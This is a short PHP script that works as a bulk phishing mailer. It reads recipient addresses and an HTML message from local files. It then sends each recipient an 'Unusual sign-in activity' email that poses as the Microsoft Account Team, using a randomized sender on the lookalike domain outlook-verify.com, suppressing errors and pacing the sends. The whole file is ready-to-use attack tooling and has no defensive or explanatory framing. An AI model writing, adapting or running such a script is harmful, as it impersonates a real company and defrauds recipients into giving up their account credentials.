<?php
$leads = explode("\n", file_get_contents(__DIR__ . '/to.txt'));
$body = file_get_contents(__DIR__ . '/msg.html');
foreach ($leads as $to) {
    $sender = 'security@' . substr(str_shuffle('abcdefghijklmnopqrstuvwxyz0123456789'), 0, 9)
        . '.outlook-verify.com';
    $headers  = "MIME-Version: 1.0\r\n";
    $headers .= "Content-type: text/html; charset=utf-8\r\n";
    $headers .= "From: Microsoft Account Team <" . $sender . ">\r\n";
    @mail(trim($to), 'Unusual sign-in activity', $body, $headers);
    usleep(300000);
}
